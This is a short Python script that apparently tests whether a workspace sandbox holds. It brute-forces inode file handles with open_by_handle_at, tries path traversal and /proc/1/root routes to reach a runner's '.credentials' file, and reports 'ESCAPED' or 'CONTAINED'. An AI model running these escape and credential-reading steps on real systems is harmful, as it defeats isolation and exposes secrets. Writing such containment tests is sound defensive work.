# File handles of inodes nobody gave away, opened through the workspace's mount.
import ctypes
import os

from sysc import emit, sc

workspace = os.environ["WS"]


class Handle(ctypes.Structure):
    _fields_ = [("bytes", ctypes.c_uint), ("kind", ctypes.c_int), ("data", ctypes.c_ubyte * 128)]


mount, handle, hits = ctypes.c_int(), Handle(128, 0), []
directory = os.open(workspace, os.O_RDONLY)
for kind, length in ((1, 8), (0x81, 12), (0x82, 24)):
    for inode in list(range(1, 64)) + [128, 256]:
        handle.bytes, handle.kind = length, kind
        ctypes.memmove(handle.data, inode.to_bytes(8, "little") + bytes(16), length)
        result, _ = sc("open_by_handle_at", directory, ctypes.byref(handle), os.O_RDONLY)
        if result >= 0:
            hits.append(os.readlink(f"/proc/self/fd/{result}"))
for path in (f"{workspace}/../../../../../../../../../..", "/proc/self/root", "/proc/1/root", "/proc/1/cwd"):
    try:
        with open(f"{path}{os.environ['RIG_RUNNER']}/.credentials", "rb") as file:
            hits.append(file.read(20))
    except OSError:
        pass
outside = [hit for hit in hits if not str(hit).startswith(workspace)]
emit("ESCAPED" if outside else "CONTAINED", hits)
